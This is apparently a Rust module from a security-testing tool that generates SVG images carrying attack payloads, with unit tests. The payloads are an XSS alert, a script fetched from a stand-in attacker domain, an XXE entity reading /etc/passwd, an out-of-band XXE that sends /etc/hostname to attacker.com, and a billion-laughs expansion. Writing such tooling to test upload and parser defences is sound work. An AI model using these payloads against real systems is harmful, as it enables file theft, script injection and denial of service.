//! SVG documents carrying script or XML-entity payloads.

use alloc::string::String;
use rgb::RGB8;

use crate::color::to_hex;

/// Payload embedded in a generated SVG.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum SvgPayload {
    /// Inline `<script>` calling `alert`.
    XssAlert,
    /// `<script>` loading a remote file.
    XssRemote,
    /// External entity reading a local file.
    XxeBasic,
    /// Parameter entities exfiltrating a local file out of band.
    XxeOob,
    /// Nested entity expansion (billion laughs).
    XxeBillionLaughs,
}

/// Render an SVG of `width` x `height` filled with `color`.
pub fn build_svg(
    payload: SvgPayload,
    width: u32,
    height: u32,
    color: RGB8,
    label: Option<&str>,
) -> String {
    let fill = to_hex(color);
    let open = alloc::format!(
        r#"<svg width="{width}" height="{height}" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">"#
    );
    let rect = alloc::format!(r#"<rect width="100%" height="100%" fill="{fill}" />"#);
    let text = alloc::format!(
        r#"<text x="50%" y="50%" dominant-baseline="middle" text-anchor="middle" font-family="sans-serif" font-size="20" fill="white">{}</text>"#,
        label.unwrap_or("Security Test")
    );

    match payload {
        SvgPayload::XssAlert => alloc::format!(
            "\n{open}\n  <script type=\"text/javascript\">alert('XSS Test: {}');</script>\n  {rect}{text}\n</svg>",
            label.unwrap_or("")
        ),
        SvgPayload::XssRemote => alloc::format!(
            "\n{open}\n  <script xlink:href=\"http://attacker-controlled-domain.com/evil.js\" />\n  {rect}{text}\n</svg>"
        ),
        SvgPayload::XxeBasic => alloc::format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg [ <!ELEMENT svg ANY ><!ENTITY xxe SYSTEM "file:///etc/passwd" >]>{open}{rect}<text x="50%" y="50%" fill="red" font-size="20">&xxe;</text></svg>"#
        ),
        SvgPayload::XxeOob => alloc::format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg [ <!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval "<!ENTITY &#x25; exfiltrate SYSTEM 'http://attacker.com/?x=%file;'>">%eval;%exfiltrate;]>{open}{rect}<text>XXE OOB</text></svg>"#
        ),
        SvgPayload::XxeBillionLaughs => billion_laughs(&open),
    }
}

fn billion_laughs(open: &str) -> String {
    let mut out = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
    for level in 1..=9 {
        let prev = if level == 1 {
            String::from("lol")
        } else {
            alloc::format!("lol{}", level - 1)
        };
        out.push_str(&alloc::format!(" <!ENTITY lol{level} \""));
        for _ in 0..10 {
            out.push('&');
            out.push_str(&prev);
            out.push(';');
        }
        out.push_str("\">\n");
    }
    out.push_str("]>\n");
    out.push_str(open);
    out.push_str("\n <text x=\"50\" y=\"50\" font-size=\"20\">&lol9;</text>\n</svg>");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const INDIGO: RGB8 = RGB8 {
        r: 0x63,
        g: 0x66,
        b: 0xf1,
    };

    #[test]
    fn xss_alert_embeds_label_and_fill() {
        let svg = build_svg(SvgPayload::XssAlert, 10, 20, INDIGO, Some("boom"));
        assert!(svg.contains(r#"width="10" height="20""#));
        assert!(svg.contains("alert('XSS Test: boom');"));
        assert!(svg.contains(r##"fill="#6366f1""##));
        assert!(svg.trim_end().ends_with("</svg>"));
    }

    #[test]
    fn xxe_declares_external_entity() {
        let svg = build_svg(SvgPayload::XxeBasic, 1, 1, INDIGO, None);
        assert!(svg.starts_with("<?xml"));
        assert!(svg.contains(r#"<!ENTITY xxe SYSTEM "file:///etc/passwd" >"#));
        assert!(svg.contains("&xxe;"));
    }

    #[test]
    fn billion_laughs_has_nine_levels_of_ten() {
        let svg = build_svg(SvgPayload::XxeBillionLaughs, 1, 1, INDIGO, None);
        assert!(svg.contains(" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"));
        assert_eq!(svg.matches("&lol8;").count(), 10);
        assert!(svg.contains("&lol9;</text>"));
    }
}
